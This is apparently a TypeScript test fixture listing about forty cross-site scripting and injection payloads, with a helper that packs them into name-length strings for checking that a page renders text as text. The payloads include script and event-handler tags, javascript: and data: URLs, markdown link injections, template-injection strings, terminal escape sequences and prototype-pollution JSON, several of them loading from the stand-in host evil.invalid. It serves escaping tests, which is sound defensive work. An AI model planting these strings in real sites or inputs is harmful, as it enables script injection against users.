/**
 * Texts that would act if a page took them for more than text. Each sets `ran`, opens a dialog or loads something from
 * `evil.invalid`; none does where texts stay texts.
 */

const ESC = '\u001B';
const BELL = '\u0007';
const CODE = 'self.ran=1;alert(1)';
const ELSEWHERE = 'https://evil.invalid/x';

export const payloads: readonly string[] = [
  `<script>${CODE}</script>`,
  `</script><script>${CODE}</script>`,
  `<script src=${ELSEWHERE}.js></script>`,
  `"><script>${CODE}</script>`,
  `'"--></style></title></textarea></noscript><script>${CODE}</script>`,
  `<scr<script>ipt>${CODE}</scr</script>ipt>`,
  `<img src=x onerror="${CODE}">`,
  `<img src="${ELSEWHERE}.png">`,
  `" autofocus onfocus="${CODE}" x="`,
  `' onmouseover='${CODE}' x='`,
  `<svg onload="${CODE}">`,
  `<svg><script href="data:text/javascript,${CODE}"/></svg>`,
  `<svg><animate onbegin="${CODE}" attributeName=x dur=1s>`,
  `<svg><use href="${ELSEWHERE}.svg#a"/></svg>`,
  `<math><a xlink:href="javascript:${CODE}">m</a></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=${CODE}>">`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<iframe src="javascript:${CODE}"></iframe>`,
  `<object data="data:text/html,<script>${CODE}</script>"></object>`,
  `<embed src="${ELSEWHERE}.swf">`,
  `<details open ontoggle="${CODE}">`,
  `<video><source onerror="${CODE}"></video>`,
  `<body onload="${CODE}"><marquee onstart="${CODE}">`,
  `<base href="${ELSEWHERE}/">`,
  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}">`,
  `<link rel=stylesheet href="${ELSEWHERE}.css">`,
  `<style>@import "${ELSEWHERE}.css";*{background:url(${ELSEWHERE}.png)}</style>`,
  `<p style="background:url(${ELSEWHERE}.png);width:expression(${CODE})">p</p>`,
  `<form action="${ELSEWHERE}"><button formaction="javascript:${CODE}">go</button></form>`,
  `javascript:${CODE}`,
  ` \u0001java\tscript:${CODE}//`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `[link](javascript:${CODE}) [data](data:text/html,<script>${CODE}</script>) <javascript:${CODE}>`,
  `[entities](&#106;avascript&colon;${CODE}) [tab](java&Tab;script:${CODE}) [vb](vbscript:${CODE})`,
  `![picture](${ELSEWHERE}.png "t") ![script](javascript:${CODE})`,
  `[ref]: javascript:${CODE}\n[ref] and ![][ref] [a]("onmouseover="${CODE})`,
  `${ESC}]8;;javascript:${CODE}${BELL}osc${ESC}]8;;${BELL} ${ESC}[31;1m${ESC}[2J<b onclick=${CODE}>ansi</b>${ESC}[0m`,
  '{{constructor.constructor("self.ran=1")()}} ${self.ran=1} <%= self.ran=1 %> #{self.ran=1} [[${self.ran=1}]]',
  '\u202E\u2066<img src=x onerror=self.ran=1>\u2069\u200F \u200B\uFEFF\u2028\u2029 ＜script＞self.ran=1＜/script＞ ʺ＞',
  `{"__proto__":{"href":"javascript:${CODE}","dangerouslySetInnerHTML":{"__html":"<img src=x onerror=self.ran=1>"}}}`,
];

/** As many of them as fit into a name, each time beginning with the one after the last. */
export function shortOf(most: number): string {
  const taken: string[] = [];
  for (let length = 0; length < most; next += 1) {
    const one = payloads[next % payloads.length] ?? '';
    taken.push(one);
    length += one.length + 1;
  }
  return taken
    .join(' ')
    .replaceAll(/\p{Cc}/gu, ' ')
    .slice(0, most);
}
let next = 0;

export const allPayloads = payloads.join('\n\n');
